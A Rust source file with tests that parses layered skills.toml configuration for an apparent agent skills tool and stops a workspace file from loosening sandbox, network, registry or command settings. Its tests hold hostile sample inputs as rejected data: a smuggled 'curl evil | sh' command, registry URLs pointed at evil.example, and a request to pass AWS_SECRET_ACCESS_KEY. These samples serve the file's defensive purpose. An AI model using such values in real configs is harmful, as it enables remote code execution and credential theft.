//! The configuration files (02 §Configuration): `~/<app_dir>/skills.toml`, then
//! `<workspace>/<app_dir>/skills.toml` when the workspace is trusted, layered onto the
//! `SkillsConfig` the caller built.
//!
//! Layering: `paths` and `[permissions]` rules append (rules from later layers win, as the last
//! matching rule does), `disabled` names accumulate, and `[catalog] budget_chars` is replaced.
//! A malformed key is an `invalid-config` diagnostic and is ignored; it never fails discovery.

use std::path::{Path, PathBuf};

use skills_types::config::{Permission, PermissionRule};
use skills_types::install::{AgentTarget, RegistryKind};
use skills_types::runtime::{ConfirmMode, NetworkMode, RuntimeConfig, SandboxMode, Strictness};
use skills_types::{Diagnostic, DiagnosticCode, SkillsConfig};

/// The configuration file's name inside an app directory.
pub const CONFIG_FILE: &str = "skills.toml";

/// Largest configuration file read.
const MAX_CONFIG_BYTES: u64 = 1024 * 1024;

/// The keys that hold a value at the top of the file, before any `[table]` header. TOML puts
/// every key written after a header into that table, so `disabled = [...]` placed below
/// `[permissions]` becomes a permission rule for a skill named "disabled"; the message for a
/// key of this list found inside a table says where it belongs.
const TOP_LEVEL_KEYS: [&str; 3] = ["paths", "urls", "disabled"];

/// The end of a message about `key` found inside `[table]`: a hint to move it up when it is a
/// top-level key, nothing otherwise.
fn misplaced(table: &str, key: &str) -> String {
    if TOP_LEVEL_KEYS.contains(&key) {
        format!(
            "; '{key}' is a top-level key: move it above the [{table}] header (every key after a header belongs to that table)"
        )
    } else {
        String::new()
    }
}

/// The effective configuration: `config` with the files layered on, and what was wrong with
/// them.
pub(crate) fn effective(config: &SkillsConfig, trusted: bool) -> (SkillsConfig, Vec<Diagnostic>) {
    let mut merged = config.clone();
    let mut diagnostics = Vec::new();
    if !config.read_config_files {
        return (merged, diagnostics);
    }
    let mut layers = vec![config.home.clone()];
    if trusted {
        layers.push(config.workspace.clone());
    }
    for base in layers {
        let file = base.join(&config.app_dir).join(CONFIG_FILE);
        apply_file(&file, &base, &config.home, &mut merged, &mut diagnostics);
    }
    (merged, diagnostics)
}

fn apply_file(
    file: &Path,
    base: &Path,
    home: &Path,
    config: &mut SkillsConfig,
    diagnostics: &mut Vec<Diagnostic>,
) {
    let mut problem = |message: String| {
        diagnostics
            .push(Diagnostic::warning(DiagnosticCode::InvalidConfig, message).with_path(file));
    };
    let text = match read_small(file) {
        Ok(Some(text)) => text,
        Ok(None) => return,
        Err(message) => return problem(message),
    };
    let table: toml::Table = match text.parse() {
        Ok(table) => table,
        Err(error) => return problem(format!("not valid TOML: {}", error.message())),
    };
    for (key, value) in &table {
        match key.as_str() {
            "paths" => match strings(value) {
                Some(paths) => config
                    .extra_roots
                    .extend(paths.iter().map(|path| resolve(path, base, home))),
                None => problem("'paths' must be a list of strings".to_owned()),
            },
            "urls" => match strings(value) {
                Some(urls) => config.urls.extend(urls),
                None => problem("'urls' must be a list of strings".to_owned()),
            },
            "disabled" => match strings(value) {
                Some(names) => config.disabled.extend(names),
                None => problem("'disabled' must be a list of skill names".to_owned()),
            },
            "permissions" => match value.as_table() {
                Some(rules) => {
                    for (pattern, permission) in rules {
                        match permission.as_str().and_then(parse_permission) {
                            Some(permission) => config.permissions.push(PermissionRule {
                                pattern: pattern.clone(),
                                permission,
                            }),
                            None => problem(format!(
                                "permission for '{pattern}' must be \"allow\", \"ask\" or \"deny\"{}",
                                misplaced("permissions", pattern)
                            )),
                        }
                    }
                }
                None => problem("'permissions' must be a table of pattern = permission".to_owned()),
            },
            "catalog" => match value.as_table() {
                Some(catalog) => {
                    for (key, value) in catalog {
                        match (
                            key.as_str(),
                            value.as_integer().and_then(|n| usize::try_from(n).ok()),
                        ) {
                            ("budget_chars", Some(budget)) => config.budget_chars = Some(budget),
                            ("budget_chars", None) => problem(
                                "'catalog.budget_chars' must be a positive number".to_owned(),
                            ),
                            (other, _) => problem(format!(
                                "unknown key 'catalog.{other}'{}",
                                misplaced("catalog", other)
                            )),
                        }
                    }
                }
                None => problem("'catalog' must be a table".to_owned()),
            },
            // What the agent is told to run is the user's choice: a cloned repository that
            // set it could make every `AGENTS.md` it syncs tell the agent to run its script.
            "sync" if base != home => problem(
                "[sync] is read only from the home skills.toml: a workspace may not set what \
                 the agent is told to run"
                    .to_owned(),
            ),
            "sync" => match value.as_table() {
                Some(sync) => {
                    for (key, value) in sync {
                        match (key.as_str(), value.as_str()) {
                            ("read_command", Some(command)) if is_command(command) => {
                                config.read_command = Some(command.to_owned());
                            }
                            ("read_command", _) => problem(
                                "'sync.read_command' must be one word of letters, digits and \
                                 . _ - + / ~ (a program name or path)"
                                    .to_owned(),
                            ),
                            (other, _) => problem(format!(
                                "unknown key 'sync.{other}'{}",
                                misplaced("sync", other)
                            )),
                        }
                    }
                }
                None => problem("'sync' must be a table".to_owned()),
            },
            // Where the user's new skills are written is the user's choice: a cloned
            // repository that set it could steer installs into a root it ships or reads.
            "install" if base != home => problem(
                "[install] is read only from the home skills.toml: a workspace may not choose \
                 where skills are written"
                    .to_owned(),
            ),
            "install" => match value.as_table() {
                Some(install) => {
                    for (key, value) in install {
                        match (key.as_str(), value.as_str().and_then(install_root)) {
                            ("root", Some(root)) => config.install_root = Some(root),
                            ("root", None) => problem(
                                "'install.root' must be \"agents\" (.agents/skills), \"app\" \
                                 (<app_dir>/skills) or \"claude\" (.claude/skills)"
                                    .to_owned(),
                            ),
                            (other, _) => problem(format!(
                                "unknown key 'install.{other}'{}",
                                misplaced("install", other)
                            )),
                        }
                    }
                }
                None => problem("'install' must be a table".to_owned()),
            },
            // Which servers skills are fetched from, and with whose token, is the user's
            // choice: a cloned repository that set them could point installs at its own
            // server or collect the user's token.
            "registry" | "github" if base != home => problem(format!(
                "[{key}] is read only from the home skills.toml: a workspace may not choose \
                 where skills are fetched from"
            )),
            "runtime" => match value.as_table() {
                Some(table) => runtime(table, base != home, &mut config.runtime, &mut problem),
                None => problem("'runtime' must be a table".to_owned()),
            },
            "registry" => match value.as_table() {
                Some(table) => registry(table, config, &mut problem),
                None => problem("'registry' must be a table".to_owned()),
            },
            "github" => match value.as_table() {
                Some(table) => {
                    for (key, value) in table {
                        match (key.as_str(), value.as_str()) {
                            ("url", Some(url)) => {
                                // What the caller set (the CLI's SKILLS_GITHUB_URL) wins.
                                config.github.url.get_or_insert_with(|| url.to_owned());
                            }
                            ("url", None) => problem("'github.url' must be a string".to_owned()),
                            (other, _) => problem(format!(
                                "unknown key 'github.{other}'{}",
                                misplaced("github", other)
                            )),
                        }
                    }
                }
                None => problem("'github' must be a table".to_owned()),
            },
            other => problem(format!("unknown key '{other}'")),
        }
    }
}

/// The `[runtime]` table onto `runtime`. From the home file every key applies; from a
/// workspace's file only what tightens the setting in force does, and each key that would
/// loosen it is said and ignored (a cloned repository ships that file).
fn runtime(
    table: &toml::Table,
    workspace: bool,
    runtime: &mut RuntimeConfig,
    problem: &mut impl FnMut(String),
) {
    let loosens = |key: &str| {
        format!(
            "[runtime] {key} in a workspace's skills.toml would loosen the home setting and is \
             ignored: a workspace may only tighten how scripts run"
        )
    };
    for (key, value) in table {
        let text = value.as_str();
        match key.as_str() {
            "sandbox" => match text.and_then(sandbox_mode) {
                Some(mode) if !workspace || mode.tightens(runtime.sandbox) => {
                    runtime.sandbox = mode
                }
                Some(_) => problem(loosens(key)),
                None => problem(
                    "'runtime.sandbox' must be \"workspace-write\", \"read-only\" or \"off\""
                        .to_owned(),
                ),
            },
            "network" => match text.and_then(network_mode) {
                Some(mode) if !workspace || mode.tightens(runtime.network) => {
                    runtime.network = mode
                }
                Some(_) => problem(loosens(key)),
                None => problem("'runtime.network' must be \"deny\" or \"allow\"".to_owned()),
            },
            "confirm" => match text.and_then(confirm_mode) {
                Some(mode) if !workspace || mode.tightens(runtime.confirm) => {
                    runtime.confirm = mode
                }
                Some(_) => problem(loosens(key)),
                None => {
                    problem("'runtime.confirm' must be \"ask\", \"always\" or \"never\"".to_owned())
                }
            },
            "allow_inline" | "allow_install_scripts" => {
                let field = if key == "allow_inline" {
                    &mut runtime.allow_inline
                } else {
                    &mut runtime.allow_install_scripts
                };
                match value.as_bool() {
                    // Turning a permission off always tightens.
                    Some(allowed) if !workspace || !allowed || *field => *field = allowed,
                    Some(_) => problem(loosens(key)),
                    None => problem(format!("'runtime.{key}' must be true or false")),
                }
            }
            "pass_env" => match strings(value) {
                Some(names) if names.iter().all(|name| is_variable(name)) => {
                    if workspace {
                        // Fewer variables tighten; a name the home file does not pass loosens.
                        if names.iter().any(|name| !runtime.pass_env.contains(name)) {
                            problem(loosens(key));
                        }
                        runtime.pass_env.retain(|name| names.contains(name));
                    } else {
                        runtime.pass_env = names;
                    }
                }
                _ => problem(
                    "'runtime.pass_env' must be a list of environment variable names".to_owned(),
                ),
            },
            // Which program runs a skill's code is never a workspace's choice; nor is the
            // sandbox's helper, which runs unconfined before it confines anything.
            "node" | "npm" | "python" | "sh" | "managed_node" | "node_dist" | "sandbox_helper"
                if workspace =>
            {
                problem(format!(
                    "[runtime] {key} is read only from the home skills.toml: a workspace may not \
                     choose the program that runs scripts"
                ))
            }
            "sandbox_helper" => match text.filter(|path| Path::new(path).is_absolute()) {
                Some(path) => runtime.sandbox_helper = Some(PathBuf::from(path)),
                None => problem(
                    "'runtime.sandbox_helper' must be an absolute path to a program whose main \
                     calls skills::run::sandbox_main() first (the skills binary does)"
                        .to_owned(),
                ),
            },
            "node" | "npm" | "python" | "sh" => match text.filter(|path| !path.trim().is_empty()) {
                Some(path) => {
                    let path = Some(PathBuf::from(path));
                    match key.as_str() {
                        "node" => runtime.node = path,
                        "npm" => runtime.npm = path,
                        "python" => runtime.python = path,
                        _ => runtime.sh = path,
                    }
                }
                None => problem(format!("'runtime.{key}' must be a path")),
            },
            "managed_node" => match text.filter(|major| {
                !major.is_empty() && major.len() <= 8 && major.bytes().all(|b| b.is_ascii_digit())
            }) {
                Some(major) => runtime.managed_node = Some(major.to_owned()),
                None => problem(
                    "'runtime.managed_node' must be a Node major version such as \"22\"".to_owned(),
                ),
            },
            // Checked as a URL when managed Node is fetched, by the URL policy every download
            // passes.
            "node_dist" => match text.filter(|base| !base.trim().is_empty()) {
                Some(base) => runtime.node_dist = Some(base.trim().to_owned()),
                None => problem(
                    "'runtime.node_dist' must be a URL such as \"https://nodejs.org/dist\""
                        .to_owned(),
                ),
            },
            "max_concurrent_runs" | "max_runs_per_minute" => {
                let field = if key == "max_concurrent_runs" {
                    &mut runtime.max_concurrent_runs
                } else {
                    &mut runtime.max_runs_per_minute
                };
                match value
                    .as_integer()
                    .and_then(|n| usize::try_from(n).ok())
                    .filter(|n| (1..=10_000).contains(n))
                {
                    Some(limit) if !workspace || limit <= *field => *field = limit,
                    Some(_) => problem(loosens(key)),
                    None => problem(format!("'runtime.{key}' must be a number from 1 to 10000")),
                }
            }
            other => problem(format!(
                "unknown key 'runtime.{other}'{}",
                misplaced("runtime", other)
            )),
        }
    }
}

fn sandbox_mode(text: &str) -> Option<SandboxMode> {
    match text {
        "workspace-write" => Some(SandboxMode::WorkspaceWrite),
        "read-only" => Some(SandboxMode::ReadOnly),
        "off" => Some(SandboxMode::Off),
        _ => None,
    }
}

fn network_mode(text: &str) -> Option<NetworkMode> {
    match text {
        "deny" => Some(NetworkMode::Deny),
        "allow" => Some(NetworkMode::Allow),
        _ => None,
    }
}

fn confirm_mode(text: &str) -> Option<ConfirmMode> {
    match text {
        "ask" => Some(ConfirmMode::Ask),
        "always" => Some(ConfirmMode::Always),
        "never" => Some(ConfirmMode::Never),
        _ => None,
    }
}

/// The `[registry]` table onto `config.registry`.
fn registry(table: &toml::Table, config: &mut SkillsConfig, problem: &mut impl FnMut(String)) {
    let registry = &mut config.registry;
    for (key, value) in table {
        let number = value
            .as_integer()
            .and_then(|n| u64::try_from(n).ok())
            .filter(|n| *n > 0);
        match (key.as_str(), value.as_str()) {
            ("kind", Some("catalog")) => registry.kind = RegistryKind::Catalog,
            ("kind", Some("clawhub")) => registry.kind = RegistryKind::Clawhub,
            ("kind", Some("skillhub")) => registry.kind = RegistryKind::Skillhub,
            ("kind", _) => problem(
                "'registry.kind' must be \"catalog\", \"clawhub\" or \"skillhub\"".to_owned(),
            ),
            // What the caller set (the CLI's environment variables) wins over the file.
            ("url", Some(url)) => {
                registry.catalog_url.get_or_insert_with(|| url.to_owned());
            }
            ("download_base_url", Some(url)) => {
                registry
                    .download_base_url
                    .get_or_insert_with(|| url.to_owned());
            }
            ("token_env", Some(name)) if is_variable(name) => {
                registry.token_env = Some(name.to_owned());
            }
            ("token_env", _) => problem(
                "'registry.token_env' must name an environment variable (letters, digits, _)"
                    .to_owned(),
            ),
            ("max_catalog_bytes", _) if number.is_some() => {
                registry.max_catalog_bytes = number;
            }
            ("max_catalog_entries", _) if number.is_some() => {
                registry.max_catalog_entries = number.and_then(|n| usize::try_from(n).ok());
            }
            ("url" | "download_base_url", None) => {
                problem(format!("'registry.{key}' must be a string"));
            }
            ("max_catalog_bytes" | "max_catalog_entries", _) => {
                problem(format!("'registry.{key}' must be a positive number"));
            }
            (other, _) => problem(format!(
                "unknown key 'registry.{other}'{}",
                misplaced("registry", other)
            )),
        }
    }
}

/// Whether `name` can be an environment variable's name.
fn is_variable(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 128
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The `[install] root` value as a root.
fn install_root(text: &str) -> Option<AgentTarget> {
    match text {
        "agents" => Some(AgentTarget::Agents),
        "app" => Some(AgentTarget::App),
        "claude" => Some(AgentTarget::Claude),
        _ => None,
    }
}

/// Whether `command` may stand before `read NAME` in `AGENTS.md`: one word of a program
/// name or path, nothing a shell or the Markdown around it would read as syntax.
pub(crate) fn is_command(command: &str) -> bool {
    !command.is_empty()
        && command.len() <= 256
        && !command.starts_with('-')
        && command
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '/' | '~'))
}

/// The file's text, `None` when it does not exist.
fn read_small(file: &Path) -> Result<Option<String>, String> {
    match std::fs::metadata(file) {
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(error) => return Err(format!("cannot be read: {error}")),
        Ok(metadata) if !metadata.is_file() => return Err("is not a regular file".to_owned()),
        Ok(metadata) if metadata.len() > MAX_CONFIG_BYTES => {
            return Err(format!("is larger than {MAX_CONFIG_BYTES} bytes"));
        }
        Ok(_) => {}
    }
    std::fs::read_to_string(file)
        .map(Some)
        .map_err(|error| format!("cannot be read as UTF-8 text: {error}"))
}

fn strings(value: &toml::Value) -> Option<Vec<String>> {
    value
        .as_array()?
        .iter()
        .map(|item| item.as_str().map(str::to_owned))
        .collect()
}

fn parse_permission(text: &str) -> Option<Permission> {
    match text {
        "allow" => Some(Permission::Allow),
        "ask" => Some(Permission::Ask),
        "deny" => Some(Permission::Deny),
        _ => None,
    }
}

/// `~/x` is below home; a relative path is below the directory holding the app directory.
fn resolve(path: &str, base: &Path, home: &Path) -> PathBuf {
    if let Some(rest) = path.strip_prefix("~/") {
        return home.join(rest);
    }
    if path == "~" {
        return home.to_path_buf();
    }
    base.join(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(base: &Path, text: &str) {
        let dir = base.join(".openhuman");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(CONFIG_FILE), text).unwrap();
    }

    #[test]
    fn files_layer_in_order() {
        let home = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        write(
            home.path(),
            "paths = ['~/shared', 'team']\ndisabled = ['old']\n[permissions]\n'*' = 'ask'\n[catalog]\nbudget_chars = 100\n",
        );
        write(
            workspace.path(),
            "disabled = ['legacy']\n[permissions]\n'pdf' = 'deny'\n[catalog]\nbudget_chars = 50\n",
        );
        let config = SkillsConfig::new(workspace.path(), home.path());

        let (untrusted, diagnostics) = effective(&config, false);
        assert!(diagnostics.is_empty(), "{diagnostics:?}");
        assert_eq!(
            untrusted.extra_roots,
            [home.path().join("shared"), home.path().join("team")]
        );
        assert_eq!(untrusted.disabled, ["old"]);
        assert_eq!(untrusted.budget_chars, Some(100));

        let (trusted, _) = effective(&config, true);
        assert_eq!(trusted.disabled, ["old", "legacy"]);
        assert_eq!(trusted.budget_chars, Some(50));
        let patterns: Vec<&str> = trusted
            .permissions
            .iter()
            .map(|rule| rule.pattern.as_str())
            .collect();
        assert_eq!(patterns, ["*", "pdf"]);
    }

    #[test]
    fn malformed_keys_are_reported_and_ignored() {
        let home = tempfile::tempdir().unwrap();
        write(
            home.path(),
            "paths = 'not-a-list'\ncolour = true\n[permissions]\nx = 'maybe'\ny = 'deny'\n",
        );
        let config = SkillsConfig::new(home.path(), home.path());
        let (merged, diagnostics) = effective(&config, false);
        assert_eq!(diagnostics.len(), 3, "{diagnostics:?}");
        assert!(
            diagnostics
                .iter()
                .all(|d| d.code == DiagnosticCode::InvalidConfig)
        );
        assert_eq!(merged.permissions.len(), 1);

        write(home.path(), "this is = not toml = at all\n");
        let (_, diagnostics) = effective(&config, false);
        assert_eq!(diagnostics.len(), 1);
        assert!(diagnostics[0].message.starts_with("not valid TOML"));
    }

    #[test]
    fn registry_and_github_come_from_the_home_file_only_and_the_caller_wins() {
        let home = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        write(
            home.path(),
            "[registry]\nkind = 'clawhub'\nurl = 'https://hub.example'\ntoken_env = 'HUB_TOKEN'\n\
             max_catalog_bytes = 1000\nmax_catalog_entries = 10\n[github]\nurl = 'https://ghe.example'\n",
        );
        write(
            workspace.path(),
            "[registry]\nurl = 'https://evil.example'\n[github]\nurl = 'https://evil.example'\n",
        );
        let config = SkillsConfig::new(workspace.path(), home.path());
        let (merged, diagnostics) = effective(&config, true);
        assert_eq!(merged.registry.kind, RegistryKind::Clawhub);
        assert_eq!(
            merged.registry.catalog_url.as_deref(),
            Some("https://hub.example")
        );
        assert_eq!(merged.registry.token_env.as_deref(), Some("HUB_TOKEN"));
        assert_eq!(merged.registry.max_catalog_bytes, Some(1000));
        assert_eq!(merged.registry.max_catalog_entries, Some(10));
        assert_eq!(merged.github.url.as_deref(), Some("https://ghe.example"));
        assert_eq!(diagnostics.len(), 2, "{diagnostics:?}");
        assert!(
            diagnostics
                .iter()
                .all(|d| d.message.contains("only from the home"))
        );

        let mut set = SkillsConfig::new(workspace.path(), home.path());
        set.registry.catalog_url = Some("https://env.example".to_owned());
        set.github.url = Some("https://env.example".to_owned());
        let (merged, _) = effective(&set, false);
        assert_eq!(
            merged.registry.catalog_url.as_deref(),
            Some("https://env.example")
        );
        assert_eq!(merged.github.url.as_deref(), Some("https://env.example"));

        write(
            home.path(),
            "[registry]\nkind = 'npm'\ntoken_env = 'A B'\nmax_catalog_bytes = -1\nurl = 3\n",
        );
        let (_, diagnostics) = effective(&config, false);
        assert_eq!(diagnostics.len(), 4, "{diagnostics:?}");
    }

    #[test]
    fn runtime_keys_come_from_home_and_a_workspace_may_only_tighten_them() {
        let home = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        write(
            home.path(),
            "[runtime]\npass_env = ['GITHUB_TOKEN', 'NPM_TOKEN']\nsandbox = 'workspace-write'\n\
             network = 'allow'\nallow_inline = true\nconfirm = 'never'\nnode = '/opt/node/bin/node'\n\
             managed_node = '22'\nnode_dist = 'https://mirror.example/node'\nmax_concurrent_runs = 8\n\
             sandbox_helper = '/opt/skills/bin/skills'\n",
        );
        let config = SkillsConfig::new(workspace.path(), home.path());
        let (home_only, diagnostics) = effective(&config, false);
        assert!(diagnostics.is_empty(), "{diagnostics:?}");
        let runtime = &home_only.runtime;
        assert_eq!(runtime.pass_env, ["GITHUB_TOKEN", "NPM_TOKEN"]);
        assert_eq!(runtime.network, NetworkMode::Allow);
        assert!(runtime.allow_inline);
        assert_eq!(runtime.confirm, ConfirmMode::Never);
        assert_eq!(
            runtime.node.as_deref(),
            Some(Path::new("/opt/node/bin/node"))
        );
        assert_eq!(runtime.managed_node.as_deref(), Some("22"));
        assert_eq!(
            runtime.node_dist.as_deref(),
            Some("https://mirror.example/node")
        );
        assert_eq!(runtime.max_concurrent_runs, 8);
        assert_eq!(
            runtime.sandbox_helper.as_deref(),
            Some(Path::new("/opt/skills/bin/skills"))
        );

        // Tightening applies without a word.
        write(
            workspace.path(),
            "[runtime]\npass_env = ['NPM_TOKEN']\nsandbox = 'read-only'\nnetwork = 'deny'\n\
             allow_inline = false\nconfirm = 'always'\nmax_concurrent_runs = 2\n",
        );
        let (tightened, diagnostics) = effective(&config, true);
        assert!(diagnostics.is_empty(), "{diagnostics:?}");
        let runtime = &tightened.runtime;
        assert_eq!(runtime.pass_env, ["NPM_TOKEN"]);
        assert_eq!(runtime.sandbox, SandboxMode::ReadOnly);
        assert_eq!(runtime.network, NetworkMode::Deny);
        assert!(!runtime.allow_inline);
        assert_eq!(runtime.confirm, ConfirmMode::Always);
        assert_eq!(runtime.max_concurrent_runs, 2);

        // Loosening is said key by key and changes nothing.
        write(home.path(), "[runtime]\npass_env = ['GITHUB_TOKEN']\n");
        write(
            workspace.path(),
            "[runtime]\npass_env = ['AWS_SECRET_ACCESS_KEY']\nsandbox = 'off'\nnetwork = 'allow'\n\
             allow_inline = true\nallow_install_scripts = true\nconfirm = 'never'\n\
             python = './evil/python'\nmanaged_node = '22'\nnode_dist = 'http://evil.example'\n\
             max_runs_per_minute = 1000\nsandbox_helper = '/tmp/evil/helper'\n",
        );
        let (kept, diagnostics) = effective(&config, true);
        assert_eq!(
            kept.runtime.pass_env,
            Vec::<String>::new(),
            "not even the home's one"
        );
        assert_eq!(kept.runtime, RuntimeConfig::default());
        assert_eq!(diagnostics.len(), 11, "{diagnostics:?}");
        for key in [
            "sandbox_helper",
            "pass_env",
            "sandbox",
            "network",
            "allow_inline",
            "allow_install_scripts",
            "confirm",
            "python",
            "managed_node",
            "node_dist",
            "max_runs_per_minute",
        ] {
            assert!(
                diagnostics
                    .iter()
                    .any(|d| d.message.contains(&format!("[runtime] {key} "))),
                "{key}: {diagnostics:?}"
            );
        }

        // Malformed values are said and ignored.
        write(
            home.path(),
            "[runtime]\nsandbox = 'maybe'\npass_env = ['A B']\nmax_concurrent_runs = 0\nnode = ''\ncolour = 1\n",
        );
        let (_, diagnostics) = effective(&config, false);
        assert_eq!(diagnostics.len(), 5, "{diagnostics:?}");
    }

    #[test]
    fn read_command_comes_from_the_home_file_only() {
        let home = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        write(home.path(), "[sync]\nread_command = 'skills-rs'\n");
        write(workspace.path(), "[sync]\nread_command = './evil.sh'\n");
        let config = SkillsConfig::new(workspace.path(), home.path());
        let (merged, diagnostics) = effective(&config, true);
        assert_eq!(merged.read_command.as_deref(), Some("skills-rs"));
        assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
        assert!(diagnostics[0].message.contains("only from the home"));

        for bad in ["x; curl evil | sh", "a b", "`x`", "-rf", ""] {
            write(home.path(), &format!("[sync]\nread_command = {bad:?}\n"));
            let (merged, diagnostics) = effective(&config, false);
            assert_eq!(merged.read_command, None, "{bad}");
            assert_eq!(diagnostics.len(), 1, "{bad}: {diagnostics:?}");
        }
    }

    /// TOML files every key after a `[table]` header into that table: a top-level key found
    /// there is reported with where it belongs, and the rest of the file still applies.
    #[test]
    fn a_top_level_key_inside_a_table_says_to_move_it_up() {
        let home = tempfile::tempdir().unwrap();
        write(
            home.path(),
            "[permissions]\n'pdf' = 'deny'\ndisabled = ['old']\n[catalog]\nbudget_chars = 10\npaths = ['x']\n",
        );
        let config = SkillsConfig::new(home.path(), home.path());
        let (merged, diagnostics) = effective(&config, false);
        let messages: Vec<&str> = diagnostics.iter().map(|d| d.message.as_str()).collect();
        assert_eq!(
            messages,
            [
                "permission for 'disabled' must be \"allow\", \"ask\" or \"deny\"; 'disabled' is a top-level key: move it above the [permissions] header (every key after a header belongs to that table)",
                "unknown key 'catalog.paths'; 'paths' is a top-level key: move it above the [catalog] header (every key after a header belongs to that table)",
            ]
        );
        assert_eq!(merged.permissions.len(), 1);
        assert_eq!(merged.budget_chars, Some(10));
        // A skill may be called "disabled": a valid rule for that name is a rule, not a slip.
        write(home.path(), "[permissions]\ndisabled = 'ask'\n");
        let (merged, diagnostics) = effective(&config, false);
        assert!(diagnostics.is_empty(), "{diagnostics:?}");
        assert_eq!(merged.permissions[0].pattern, "disabled");
        // Other unknown keys get no such hint.
        write(home.path(), "[catalog]\ncolour = 1\n");
        let (_, diagnostics) = effective(&config, false);
        assert_eq!(diagnostics[0].message, "unknown key 'catalog.colour'");
    }

    #[test]
    fn files_can_be_turned_off() {
        let home = tempfile::tempdir().unwrap();
        write(home.path(), "disabled = ['x']\n");
        let mut config = SkillsConfig::new(home.path(), home.path());
        config.read_config_files = false;
        assert!(effective(&config, true).0.disabled.is_empty());
    }
}
